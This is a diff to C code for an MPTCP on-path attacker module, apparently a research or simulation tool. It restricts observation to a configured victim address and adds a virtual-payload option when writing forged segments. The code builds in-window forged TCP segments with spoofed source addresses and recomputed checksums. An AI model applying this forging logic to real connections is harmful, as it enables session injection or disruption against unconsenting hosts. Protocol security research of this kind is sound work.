@@ -179,11 +179,16 @@ int mptcp_attacker_observe(mptcp_attacker *a, const mptcp_addr *src, const mptcp
   int hl = mptcp_tcphdr_decode(&th, data, len);
   if (hl < 0)
     return MPTCP_OK; /* malformed or options we cannot parse: ignored */
-  a->st.observed++;
-  a->waiting = 0;
   mptcp_addr s = *src, d = *dst;
   s.port = th.sport;
   d.port = th.dport;
+  /* victim_addr given on-path: the other connections' segments are not
+   * this attacker's business (nor do they take its table's slots) */
+  if (a->cfg.victim_addr.family && !same_addr(&s, &a->cfg.victim_addr) &&
+      !same_addr(&d, &a->cfg.victim_addr))
+    return MPTCP_OK;
+  a->st.observed++;
+  a->waiting = 0;
   struct atk_flow *f = flow_find(a, &s, &d);
   if (!f)
     f = flow_add(a, &s, &d);
@@ -222,7 +227,10 @@ int mptcp_attacker_observe(mptcp_attacker *a, const mptcp_addr *src, const mptcp
    * the victim expects (their ACK is its RCV.NXT), whichever way the
    * other direction is routed. */
   int victim_is_client = a->cfg.victim == MPTCP_VICTIM_CLIENT;
-  if (a->sent == 0 && f->synced && !(th.flags & MPTCP_TH_RST) &&
+  /* victim_addr given on-path: only the victim's subflows from that
+   * address and port (one attacker per connection of a host) */
+  int wanted = !a->cfg.victim_addr.family || same_addr(&f->src, &a->cfg.victim_addr);
+  if (a->sent == 0 && f->synced && !(th.flags & MPTCP_TH_RST) && wanted &&
       (th.flags & MPTCP_TH_ACK) && f->from_client == victim_is_client) {
     a->target = f;
     a->st.target_known = 1;
@@ -293,10 +301,11 @@ int mptcp_attacker_write(mptcp_attacker *a, mptcp_segment *seg, uint8_t *buf, si
   if (hl < 0)
     return hl;
   size_t plen = a->payload_len;
-  if ((size_t)hl + plen > cap)
+  size_t inbuf = a->cfg.virtual_payload ? 0 : plen; /* payload bytes written */
+  if ((size_t)hl + inbuf > cap)
     return MPTCP_ERR_NOBUF;
-  memset(buf + hl, MPTCP_ATTACK_PATTERN, plen);
-  size_t n = (size_t)hl + plen;
+  memset(buf + hl, MPTCP_ATTACK_PATTERN, inbuf);
+  size_t n = (size_t)hl + inbuf;
   mptcp_addr src = a->forge_src_set ? a->forge_src : f->src;
   src.port = h.sport;
   uint16_t c = src.family == 6 ? mptcp_tcp_checksum_ipv6(src.ip, f->dst.ip, buf, n)
@@ -308,6 +317,7 @@ int mptcp_attacker_write(mptcp_attacker *a, mptcp_segment *seg, uint8_t *buf, si
   seg->len = n;
   seg->hdr_len = (size_t)hl;
   seg->payload_len = plen;
+  seg->payload_virtual = inbuf != plen;
   a->st.forged_bytes += plen;
   a->sent++;
   a->st.forged++;
